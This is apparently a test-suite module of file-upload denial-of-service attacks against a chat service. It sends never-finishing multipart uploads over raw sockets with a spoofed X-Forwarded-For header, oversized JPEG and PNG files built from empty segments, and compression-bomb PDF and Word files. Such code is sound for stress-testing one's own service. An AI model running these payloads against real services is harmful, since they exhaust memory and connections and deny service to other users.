// Attacks with files: uploads that never end, and images and documents that cost far more than their size suggests.
import { connect as connectTcp } from 'node:net'
import { deflateSync } from 'node:zlib'
import { docx, pdf, png, zip } from '../fixtures/sample-files.ts'
import { announces, upload, type Sample } from '../people/uploads.ts'
import type { Ear, Visitor } from '../people/visitor.ts'
import { flood, hangUp, inParallel, type Attack, type Target } from './attack.ts'

/** A guest of the attacker with a session in which the assistant is off. */
async function uploader({ come }: Target): Promise<{ who: Visitor; ear: Ear }> {
  const who = come()
  const ear = await who.join((await who.createSession('Files')).id)
  ear.send({ type: 'ai_toggle', enabled: false })
  return { who, ear }
}

const sends = (name: string, sample: () => Sample): Attack => ({
  name,
  async run(target, isOver) {
    const { who, ear } = await uploader(target)
    const file = sample()
    await inParallel(isOver, 4, async () => upload(who, await announces(ear, 2), [file, file]), 20)
    hangUp([ear])
  },
})

/** A JPEG with ten megabytes of empty comments. */
function segments(): Buffer {
  const [start, comment] = [Buffer.from([0xff, 0xd8]), Buffer.from([0xff, 0xfe, 0, 2])]
  return Buffer.concat([start, Buffer.alloc(10_000_000, comment), Buffer.from([0xff, 0xd9])])
}

/** A PDF of a few kilobytes whose page unpacks to `megabytes` of spaces. */
function pdfBomb(megabytes: number): Buffer {
  const packed = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, ' '))
  const plain = pdf(['']).toString('latin1')
  const stream = `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed.toString('latin1')}\nendstream`
  return Buffer.from(
    plain.replace(/<< \/Length 0 >>\nstream\n\nendstream/, () => stream),
    'latin1',
  )
}

export const fileAttacks: Attack[] = [
  {
    name: 'begins uploads and never completes them',
    async run(target, isOver) {
      const { who, ear } = await uploader(target)
      const messageId = await announces(ear, 5)
      const { hostname, port } = new URL(target.url)
      const sockets = Array.from({ length: 12 }, () => connectTcp(Number(port), hostname))
      const part = (name: string, more: string) => `--b\r\nContent-Disposition: form-data; name="${name}"${more}\r\n\r\n`
      const file = part('files', '; filename="a.txt"\r\nContent-Type: text/plain')
      const head = [
        `POST /api/upload?messageId=${messageId} HTTP/1.1`,
        ...[`Host: ${hostname}:${port}`, `Origin: ${target.url}`, `X-Forwarded-For: ${target.address}`, `Cookie: ${who.cookie}`],
        ...['Content-Type: multipart/form-data; boundary=b', 'Content-Length: 50000000', '', ''],
      ].join('\r\n')
      for (const socket of sockets) {
        socket.on('error', () => undefined)
        socket.write(`${head}${part('messageId', '')}${messageId}\r\n${file}`)
      }
      const block = Buffer.alloc(64 * 1024, 'x')
      await flood(isOver, 1, (n) => sockets.forEach((socket) => socket.writable && n < 150 && socket.write(block)))
      for (const socket of sockets) socket.destroy()
      hangUp([ear])
    },
  },
  sends('uploads pictures of millions of empty segments', () => ({ name: 'a.jpg', bytes: segments(), type: 'image/jpeg' })),
  sends('uploads pictures of many thousand chunks', () => ({
    name: 'a.png',
    bytes: png(
      40,
      30,
      Array.from({ length: 100_000 }, () => ['tEXt', Buffer.from('a\0b')]),
    ),
    type: 'image/png',
  })),
  sends('uploads documents that unpack to hundreds of megabytes', () => ({
    name: 'a.pdf',
    bytes: pdfBomb(300),
    type: 'application/pdf',
  })),
  sends('uploads Word files that unpack to hundreds of megabytes', () => ({
    name: 'a.docx',
    bytes: docx('Bread', [{ name: 'word/bomb.xml', body: Buffer.alloc(200 * 1024 * 1024, 'a') }]),
    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  })),
  sends('uploads Word files that take long to read', () => ({
    name: 'a.docx',
    bytes: docx(`Bread</w:t></w:r></w:p>${'<w:p><w:r><w:t>a</w:t></w:r></w:p>'.repeat(200_000)}<w:p><w:r><w:t>`),
    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  })),
  sends('uploads texts of the largest size', () => ({ name: 'a.txt', bytes: 'long words '.repeat(950_000), type: 'text/plain' })),
  sends('uploads files that are not what they say', () => ({
    name: 'a.pdf',
    bytes: zip([{ name: 'a', body: Buffer.alloc(1_000) }]),
    type: 'application/pdf',
  })),
]
